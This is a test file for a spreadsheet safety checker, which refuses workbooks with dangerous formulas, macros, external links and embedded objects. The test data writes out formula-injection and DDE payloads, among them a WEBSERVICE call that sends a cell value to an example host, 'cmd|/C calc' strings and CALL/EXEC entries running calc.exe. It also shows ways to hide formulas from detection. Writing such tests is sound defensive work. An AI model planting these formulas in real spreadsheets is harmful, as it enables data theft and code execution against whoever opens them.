import { describe, expect, it } from 'vitest';
import { ConfigError } from '../../../../src/core/errors.ts';
import { harmOf } from '../../../../src/render/sinks/xlsx/fill/formulas.ts';
import { checkWorkbook } from '../../../../src/render/sinks/xlsx/fill/plan.ts';
import { BOOK_DETECTIONS, BOOK_SCORES, excelBook, excelParts } from './excel-book.ts';
import { zipOf } from './zip.ts';

const CALLS = [
  ['WEBSERVICE("https://x.example/?"&A1)', 'WEBSERVICE'],
  ['_xlfn.WEBSERVICE("https://x.example")', 'WEBSERVICE'],
  ['1+ webservice (A1)', 'WEBSERVICE'],
  ['IF(TRUE,_xlfn.IMAGE\n("https://x.example/a.png"),0)', 'IMAGE'],
  ['_xlfn._xlws.IMAGE(A1)', 'IMAGE'],
  ['MAP(A1:A3,_xleta.IMAGE)', 'IMAGE'],
  ['-FILTERXML(A1,"//a")', 'FILTERXML'],
  ['RTD("prog.id",,"x")', 'RTD'],
  ['_xlws.PY(0,1,A1)', 'PY'],
  ['_xlfn.STOCKHISTORY("MSFT",TODAY())', 'STOCKHISTORY'],
  ['CUBEVALUE("ThisWorkbookDataModel","[x]")', 'CUBEVALUE'],
  ['CALL("kernel32","WinExec","JCJ","calc.exe",0)', 'CALL'],
  ['REGISTER.ID("a","b")', 'REGISTER.ID'],
  ['EXEC("calc.exe")', 'EXEC'],
  ['GET.WORKBOOK(1)', 'GET.WORKBOOK'],
  ['FILES("C:\\*")', 'FILES'],
  ['_xll.FetchAll(A1)', '_XLL.FETCHALL'],
  ['com.sun.star.sheet.addin.Analysis.WEBSERVICE(A1)', 'WEBSERVICE'],
  ['DDE("soffice";"a";"b")', 'DDE'],
] as const;

const OTHERS = [
  [`cmd|'/C calc'!A0`, 'its formula starts another program (DDE)'],
  [`'cmd'|'/C calc'!A0`, 'its formula starts another program (DDE)'],
  [`+MSEXCEL|'\\..\\..\\calc.exe'!''`, 'its formula starts another program (DDE)'],
  ['[1]Sheet1!A1', 'its formula refers to another workbook'],
  [`SUM('[1]My Sheet'!A1:A3)`, 'its formula refers to another workbook'],
  [`'\\\\host\\share\\[a.xlsx]S'!A1`, 'its formula refers to another workbook'],
  ['[Book1.xlsx]Sheet1!$A$1', 'its formula refers to another workbook'],
  ['[1]!Name', 'its formula refers to another workbook'],
  [`'https://x.example/[a.xlsx]S'!A1`, 'its formula refers to another workbook'],
  ['HYPERLINK("file:///C:/a.exe","x")', 'its formula leads to "file:///C:/a.exe"'],
  ['hyperlink ( "\\\\host\\share\\a"&A1)', 'its formula leads to "\\\\\\\\host\\\\share\\\\a"'],
  ['HYPERLINK("fi"&"le://host/a")', 'its formula leads to "file://host/a"'],
  ['HYPERLINK("javascript:alert(1)")', 'its formula leads to "javascript:alert(1)"'],
  ['HYPERLINK("C:\\a.exe")', 'its formula leads to "C:\\\\a.exe"'],
] as const;

/** What people calculate, and texts, names and sheets that read like the above. */
const ORDINARY = [
  'SUM(A1:A3)/COUNTIF(DETECTIONS!$C$2:$C$3,"fake")',
  '_xlfn.XLOOKUP(A1,DETECTIONS!A:A,DETECTIONS!B:B)',
  '_xlfn._xlws.FILTER(A1:B9,A1:A9>0)',
  '_xlfn.LET(_xlpm.x,A1,_xlpm.x*2)',
  '_xlfn.IMAGINARY(A1)+IMREAL(A1)',
  '"see WEBSERVICE(x) | IMAGE(y) at [1]Sheet!A1"&A1',
  `'IMAGE(1)'!A1+'a|b'!B2`,
  'Image!A1+Found[Image]+Found[[#All],[a|b]]',
  `'Sheet 1:Sheet 3'!A1`,
  'MYIMAGE(A1)+X.RTDX(A1)',
  'Found[verdict_score]*DETECTIONS!B2',
  'HYPERLINK("https://intranet.example/"&A1,"how to")',
  'HYPERLINK("#Overview!A1")+HYPERLINK("mailto:a@b.example")+HYPERLINK(A1)',
  'TEXT(A1,"yyyy-mm-dd|hh:mm")',
  `IF('It''s'!A1>0,1,{1,2;3,4})`,
  'OPENING(A1)+Running*Call1+ROUND(A1,2)',
];

describe('a formula', () => {
  it.each(CALLS)('%s is refused', (formula, name) => expect(harmOf(formula)).toBe(`its formula calls ${name}`));
  it.each(OTHERS)('%s is refused', (formula, reason) => expect(harmOf(formula)).toBe(reason));
  it.each(ORDINARY)('%s stays', (formula) => expect(harmOf(formula)).toBeNull());
});

function refusal(book: Uint8Array): string {
  try {
    checkWorkbook(book, [BOOK_DETECTIONS, BOOK_SCORES]);
  } catch (error) {
    if (!(error instanceof ConfigError)) throw error;
    return error.message.replace(/^The workbook cannot be used/, '').trim();
  }
  return 'accepted';
}

const swap = (from: string, to: string) => (part: string) => part.replace(from, () => to);
const OVERVIEW = 'xl/worksheets/sheet1.xml';
const DETECTIONS = 'xl/worksheets/sheet2.xml';
const BOOK = 'xl/workbook.xml';
const CALL = '_xlfn.WEBSERVICE(A1)';

describe('wherever a formula can stand', () => {
  const says = 'its formula calls WEBSERVICE.';
  const cases: readonly (readonly [string, Readonly<Record<string, (part: string) => string>>, string])[] = [
    ['a cell', { [OVERVIEW]: swap('AVERAGE(scores)', CALL) }, `(sheet Overview, cell A5): ${says}`],
    [
      'a cell, its name spelled by entities',
      { [OVERVIEW]: swap('AVERAGE(scores)', '&#87;EB<!-- x -->SERVICE(A1)') },
      `(sheet Overview, cell A5): ${says}`,
    ],
    [
      'a cell, as CDATA behind an odd attribute',
      { [OVERVIEW]: swap('<f>AVERAGE(scores)', `<f ca=">"><![CDATA[${CALL}]]>`) },
      `(sheet Overview, cell A5): ${says}`,
    ],
    ['an array', { [OVERVIEW]: swap('DETECTIONS!B2:B3*2', CALL) }, `(sheet Overview, cell A3): ${says}`],
    [
      'a shared formula',
      { [OVERVIEW]: swap('COUNTIF(DETECTIONS!$C$1:$C$3,A5)', CALL) },
      `(sheet Overview, cell B5): ${says}`,
    ],
    [
      'a sparkline',
      { [OVERVIEW]: swap('<xm:f>DETECTIONS!B2:B3', `<xm:f>${CALL}`) },
      `(sheet Overview, part ${OVERVIEW}): ${says}`,
    ],
    ['a name', { [BOOK]: swap('>0.5<', `>${CALL}<`) }, `(part ${BOOK}): ${says}`],
    [
      'a conditional format',
      { [DETECTIONS]: swap('COUNTIF($C$2:$C$3,$C2)&gt;1', CALL) },
      `(sheet DETECTIONS, part ${DETECTIONS}): ${says}`,
    ],
    ['a validation', { [DETECTIONS]: swap('"fake,real"', CALL) }, `(sheet DETECTIONS, part ${DETECTIONS}): ${says}`],
    ['a chart', { 'xl/charts/chart1.xml': swap('DETECTIONS!$B$1', CALL) }, `(part xl/charts/chart1.xml): ${says}`],
    [
      'a column of a table',
      {
        'xl/tables/table1.xml': swap(
          'name="verdict"/>',
          `name="verdict"><calculatedColumnFormula>${CALL}</calculatedColumnFormula></tableColumn>`,
        ),
      },
      `(part xl/tables/table1.xml): ${says}`,
    ],
    [
      'the text of a shape',
      { 'xl/drawings/drawing1.xml': swap('<xdr:clientData/>', `<xdr:sp textlink="${CALL}"/><xdr:clientData/>`) },
      `(part xl/drawings/drawing1.xml): ${says}`,
    ],
    [
      'the macro of a shape',
      { 'xl/drawings/drawing1.xml': swap('macro=""', 'macro="[0]!Go"') },
      '(part xl/drawings/drawing1.xml): it runs a macro.',
    ],
    [
      'a button',
      { 'xl/drawings/vmlDrawing1.vml': () => '<xml><x:FmlaMacro>[0]!Go</x:FmlaMacro></xml>' },
      '(part xl/drawings/vmlDrawing1.vml): it runs a macro.',
    ],
    ...['Auto_Open', 'AUTO_CLOSE', '_xlnm.Auto_Open', 'auto_open_2'].map((name): (typeof cases)[number] => [
      `the name ${name}`,
      { [BOOK]: swap('name="threshold"', `hidden="1" name="${name}"`) },
      `(part ${BOOK}): it runs a macro.`,
    ]),
    [
      'a name of a macro',
      { [BOOK]: swap('name="threshold"', 'name="go" xlm="1"') },
      `(part ${BOOK}): it runs a macro.`,
    ],
    [
      'a pivot table over data elsewhere',
      { 'xl/pivotCache/pivotCacheDefinition1.xml': swap('type="worksheet"', 'type="external" connectionId="1"') },
      '(part xl/pivotCache/pivotCacheDefinition1.xml): it is connected to data elsewhere.',
    ],
    [
      'a table filled by a query',
      { 'xl/tables/table1.xml': swap('totalsRowShown', 'tableType="queryTable" totalsRowShown') },
      '(part xl/tables/table1.xml): it is connected to data elsewhere.',
    ],
    [
      'a query in a part of its own',
      { 'customXml/item1.xml': () => '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>' },
      '(part customXml/item1.xml): it is connected to data elsewhere.',
    ],
    [
      'a link to a file',
      { 'xl/worksheets/_rels/sheet1.xml.rels': swap('https://intranet.example/how-to', 'file:///\\\\host\\a.exe') },
      '(part xl/worksheets/sheet1.xml): it leads to "file:///\\\\\\\\host\\\\a.exe".',
    ],
    [
      'a picture from elsewhere that says nothing of it',
      { 'xl/drawings/_rels/drawing1.xml.rels': swap('../charts/chart1.xml', 'http://x.example/a') },
      '(part xl/drawings/drawing1.xml): it fetches "http://x.example/a".',
    ],
  ];
  it.each(cases)('%s', (_, changes, reason) => expect(refusal(excelBook(changes))).toBe(reason));

  it.each(ORDINARY)('%s is kept in cell, name, format and chart', (formula) => {
    const xml = formula.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
    const book = excelBook({
      [OVERVIEW]: swap('AVERAGE(scores)', xml),
      [BOOK]: swap('>0.5<', `>${xml}<`),
      [DETECTIONS]: swap('COUNTIF($C$2:$C$3,$C2)&gt;1', xml),
    });
    expect(refusal(book)).toBe('accepted');
  });
});

describe('a part that nothing leads to', () => {
  const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex');
  it.each([
    ['xl/vbaProject.bin', OLE, 'it holds macros.'],
    ['xl/VBAProject.BIN', Buffer.from('x'), 'it holds macros.'],
    ['xl/vbaData.xml', '<a/>', 'it holds macros.'],
    ['xl/macrosheets/sheet1.xml', '<a/>', 'it holds a sheet of Excel 4 macros.'],
    ['xl/dialogsheets/sheet1.xml', '<a/>', 'it holds a dialog of Excel 5.'],
    ['xl/externalLinks/externalLink1.xml', '<a/>', 'it refers to another workbook.'],
    ['xl/connections.xml', '<a/>', 'it has a data connection.'],
    ['xl/queryTables/queryTable1.xml', '<a/>', 'one of its tables is filled by a query.'],
    ['xl/activeX/activeX1.bin', 'x', 'it has an ActiveX control.'],
    ['xl/embeddings/oleObject1.bin', 'x', 'another document is embedded in it.'],
    ['xl/media/image7.png', OLE, 'another document is embedded in it.'],
    ['docProps/thumbnail.wmf', Buffer.from('PK\u0003\u0004'), 'another document is embedded in it.'],
    ['customUI/customUI14.xml', '<a/>', 'it changes the ribbon of Excel.'],
    ['xl/webextensions/taskpanes.xml', '<a/>', 'it starts an add-in.'],
    ['xl/model/item.data', 'x', 'it has a data model.'],
    ['_xmlsignatures/sig1.xml', '<a/>', 'it is digitally signed, and filling it would break the signature.'],
  ])('%s is refused', (name, content, reason) => {
    const parts = excelParts().set(name, content);
    expect(refusal(zipOf(parts))).toBe(`(part ${name}): ${reason}`);
  });
});

describe('the time for hostile parts grows with them and no faster', () => {
  it.each(['<f>', '<f ', '<f a="', '<definedName ', "'", '[', '<c ', '"', '<!--', '<f>[</f>'])('%j', (piece) => {
    const once = (times: number): number => {
      const parts = excelParts().set('xl/extra.xml', `<a>${piece.repeat((times * 50_000) / piece.length)}</a>`);
      const formula = piece.repeat((times * 4_000) / piece.length);
      const before = process.cpuUsage();
      refusal(zipOf(parts));
      harmOf(formula);
      const { user, system } = process.cpuUsage(before);
      return user + system;
    };
    once(1);
    expect(once(8)).toBeLessThan(24 * Math.max(once(1), 30_000));
  });
});
